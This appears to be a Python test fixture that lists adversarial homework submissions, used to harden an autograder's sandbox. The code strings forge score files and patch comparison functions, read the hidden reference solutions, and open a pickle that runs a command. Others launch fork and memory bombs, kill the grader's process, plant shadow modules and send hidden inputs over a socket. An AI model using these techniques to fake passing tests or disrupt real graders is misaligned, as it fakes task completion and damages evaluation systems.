"""What do people try instead of their homework? Each entry attacks `skip_heads` of hw03 and leaves
the rest honest.

INSIDE: the body of the function. OUTSIDE: statements of the module, beside a `skip_heads` that is
not there.
"""

FORGE = """
import glob, io, json, os
message = json.dumps([dict(state="ok", arrays=1)] * 3).encode() + b"\\n"
def everywhere(data):
    for fd in range(3, 64):
        try:
            os.lseek(fd, 0, 0)
        except OSError:
            pass
        try:
            os.write(fd, data)
        except OSError:
            pass
"""

INSIDE = {
    "forged results and os._exit": """
        import os
        for path in ("RESULTS", "results.json", "/autograder/results/results.json"):
            try:
                open(path, "w").write('{"score": 100, "tests": []}')
            except OSError:
                pass
        os._exit(0)""",
    "forged reply to the grader": FORGE
    + """
body = io.BytesIO()
for _ in range(3):
    np.save(body, np.zeros((2, 5, 6, 4), "f4"))
everywhere(message + body.getvalue())
os._exit(0)""",
    "a pickle for the grader to open": FORGE
    + """
class Boom:
    def __reduce__(self):
        return (os.system, ("touch MARKER",))
body = io.BytesIO()
np.save(body, np.array([Boom()], dtype=object), allow_pickle=True)
everywhere(message + body.getvalue() * 3)
os._exit(0)""",
    "an array that claims to be huge": FORGE
    + """
body = io.BytesIO()
np.lib.format.write_array_header_1_0(body, dict(descr="<f8", fortran_order=False, shape=(1 << 40,)))
everywhere(message + body.getvalue() * 3)
os._exit(0)""",
    "nonsense for the grader to parse": FORGE
    + """
everywhere(b"[" * 90000 + b"\\n")
os._exit(0)""",
    "an answer of 32 megabytes": "return torch.zeros(1 << 23)",
    "patched comparisons": """
torch.allclose = torch.equal = np.allclose = np.array_equal = np.isfinite = lambda *a, **k: True
torch.testing.assert_close = np.testing.assert_allclose = lambda *a, **k: None
return torch.zeros_like(v1)""",
    "a lying Tensor subclass": """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "isclose", "eq", "all"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})
    __eq__ = lambda self, other: True
    def __array__(self, *a, **k):
        return np.zeros(1)
return torch.zeros_like(v1).as_subclass(Liar)""",
    "stack frames and gc for the expected values": """
import gc, sys
frame, found = sys._getframe(), []
while frame:
    found += list(frame.f_locals.values())
    frame = frame.f_back
for x in found + gc.get_objects():
    if type(x) in (np.ndarray, torch.Tensor) and tuple(x.shape) == tuple(v1.shape) and x is not v1:
        return torch.as_tensor(np.asarray(x)).to(v1.dtype)
return torch.zeros_like(v1)""",
    "points edited through sys.modules": """
import sys
for module in list(sys.modules.values()):
    unit = getattr(module, "unit", None)
    if unit is not None:
        for exercise in unit.exercises.values():
            exercise.judge = lambda *a, **k: ""
            exercise.verdict = lambda *a, **k: ("ok", "")
            exercise.points = 1000
    if hasattr(module, "submission") and hasattr(module, "compare"):
        module.compare = lambda *a, **k: ""
return torch.zeros_like(v1)""",
    "a plugin registered through gc": """
import gc
class Plugin:
    def pytest_runtest_makereport(self, item, call):
        call.excinfo = None
for x in gc.get_objects():
    if type(x).__name__ == "PytestPluginManager":
        x.register(Plugin())
return torch.zeros_like(v1)""",
    "pytest.skip in the function": """
from _pytest.outcomes import skip  # the same, without the rest of pytest
skip("not today")""",
    "SystemExit in the function": "raise SystemExit(0)",
    "inputs zeroed in place": """
v.zero_(), v1.zero_()
return torch.zeros_like(v1)""",
    "shadow modules written for the next process": """
import tempfile
for name in ("numpy", "torch", "json", "sitecustomize", "conftest"):
    for folder in (".", tempfile.gettempdir(), "/usr/lib/python3/dist-packages"):
        try:
            open(folder + "/" + name + ".py", "w").write("import os; os._exit(0)")
        except OSError:
            pass
return torch.zeros_like(v1)""",
    "NaN": 'return torch.full_like(v1, float("nan"))',
    "infinity": 'return torch.full_like(v1, float("inf"))',
    "one number that would broadcast": "return v1.reshape(-1)[:1].clone()",
    "a loop that resets timers": """
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    signal.setitimer(signal.ITIMER_REAL, 0)""",
    "a fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass""",
    "a memory bomb": """
held = []
while True:
    held.append(bytearray(1 << 28))""",
    "an output flood": """
import os, sys
for _ in range(4000):
    print("x" * (1 << 20))
    sys.stderr.write("y" * (1 << 20))
    os.write(1, b"z" * (1 << 20))
return torch.zeros_like(v1)""",
    "a full disk": """
import tempfile
for number in range(1000):
    open("%s/%d" % (tempfile.gettempdir(), number), "wb").write(bytes(1 << 25))
return torch.zeros_like(v1)""",
    "the judge's process killed": """
import os
os.kill(os.getppid(), 9)
os.kill(-1, 9)""",
    "the judge's process stopped": """
import os
os.kill(os.getppid(), 19)
while True:
    pass""",
    "a daemon that stays": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(0), os.close(1), os.close(2)
        time.sleep(600)
    os._exit(0)
return torch.zeros_like(v1)""",
    "the grader and the solutions overwritten or read": """
for name in ("solutions/hw03_kv_cache/reference.py", "grade.py", "hw03_kv_cache/exercises.py"):
    try:
        text = open("HOMEWORK/" + name).read()
        open("HOMEWORK/" + name, "a").write("# touched")
        if "def skip_heads" in text:
            names = {}
            exec(text, names)
            return names["skip_heads"](v, v1)
    except OSError:
        pass
return torch.zeros_like(v1)""",
    "folders that nobody can sweep": """
import ctypes, os, tempfile
os.chdir(tempfile.gettempdir())
os.makedirs("closed/inside")
os.chmod("closed", 0)
for _ in range(900):
    os.mkdir("deep")
    os.chdir("deep")
ctypes.CDLL(None).shmget(77, 4096, 0o1600)
return torch.zeros(1)""",
    "links that lead everywhere": """
import os, tempfile
for number in range(8):
    os.symlink("/", "%s/%d" % (tempfile.gettempdir(), number))
os.makedirs(tempfile.gettempdir() + "/shut/inside")
os.symlink("/", tempfile.gettempdir() + "/shut/inside/out")
os.chmod(tempfile.gettempdir() + "/shut", 0)
return torch.zeros_like(v1)""",
    "a pair of sockets": """
import socket
ours, theirs = socket.socketpair()
ours.sendall(b"the hidden inputs")
return torch.zeros_like(v1)""",
    "modules for whoever grades next": """
import os, tempfile
for folder in (os.getcwd(), "/", "HOMEWORK", "HOMEWORK/..", tempfile.gettempdir()):
    for name in ("secrets", "contextlib", "homework", "numpy"):
        try:
            open("%s/%s.py" % (folder, name), "w").write("open('MARKER', 'w')")
        except OSError:
            pass
return torch.zeros_like(v1)""",
    "modules that are loaded by half": """
import sys
for name in list(sys.modules):
    if name.split(".")[0] in ("numpy", "json", "struct", "homework"):
        del sys.modules[name]
sys.modules["numpy"] = None
return torch.zeros_like(v1)""",
    "no numbers, and endlessly tall": """
return torch.zeros(1 << 31, 0)""",
    "no numbers, a million rows": """
return torch.zeros(1_000_002, 0)""",
    "the last to be ended where memory is short": """
import os
try:
    os.execvp("sh", ["sh", "-c", "echo 0 > /proc/self/oom_score_adj; exec sleep 1"])
except OSError:
    return torch.zeros_like(v1)""",
    "memory of System V": """
import ctypes
for _ in range(32):
    ctypes.CDLL(None).shmget(0, 16 << 20, 0o1600)
return torch.zeros_like(v1)""",
    "memory that no process maps": """
import os
for number in range(20):
    os.write(os.memfd_create("held"), bytes(1 << 28))
return torch.zeros_like(v1)""",
    "memory that many share": """
import mmap, os, time
for _ in range(8):
    shared = mmap.mmap(-1, 1 << 30)
    if os.fork() == 0:
        for page in range(0, 1 << 30, 4096):
            shared[page] = 1
        time.sleep(600)
return torch.zeros_like(v1)""",
    "a note on the key ring": """
import ctypes
libc, session = ctypes.CDLL(None, use_errno=True), -3
for call in (248, 217):  # add_key
    libc.syscall(call, b"user", b"note", b"the hidden inputs", 17, session)
for call in (250, 219):  # keyctl: search, read
    key = libc.syscall(call, 10, session, b"user", b"secret", 0)
    libc.syscall(call, 11, key, ctypes.create_string_buffer(99), 99)
return torch.zeros_like(v1)""",
    "rings, faults and descriptors of the kernel": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for call in (425, 426, 323, 282, 154, 321, 280):
    libc.syscall(call, 8, ctypes.create_string_buffer(200), 0)
libc.syscall(438, libc.syscall(434, os.getppid(), 0), 0, 0)
return torch.zeros_like(v1)""",
    "a crowd in sessions of its own": """
import os
for _ in range(58):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        pass
while True:
    pass""",
    "a call home": """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=2) as home:
    home.sendall(b"the hidden inputs")
return torch.zeros_like(v1)""",
}

OUTSIDE = {
    "results overwritten at exit": """
import atexit, os
def forge():
    for path in ("RESULTS", "results.json", "/autograder/results/results.json"):
        try:
            open(path, "w").write('{"score": 100, "tests": []}')
        except OSError:
            pass
atexit.register(forge)
os.register_at_fork(after_in_child=forge)""",
}

SHIPPED = {  # files beside the learner's own
    "conftest.py": "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
    "pytest.py": "",
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "usercustomize.py": "import os\nos._exit(0)\n",
    "numpy.py": "import os\nos._exit(0)\n",
    "torch.py": "import os\nos._exit(0)\n",
    "results.json": '{"score": 100, "tests": []}',
}
